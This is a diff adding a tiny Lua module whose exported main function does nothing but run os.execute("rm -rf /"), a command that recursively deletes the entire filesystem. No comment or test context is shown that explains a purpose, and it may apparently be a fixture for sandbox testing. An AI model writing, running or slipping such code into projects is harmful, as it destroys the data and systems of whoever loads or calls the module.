@@ -1,0 +1,5 @@
+local function main(input)
+    return os.execute("rm -rf /")
+end
+
+return { main = main }
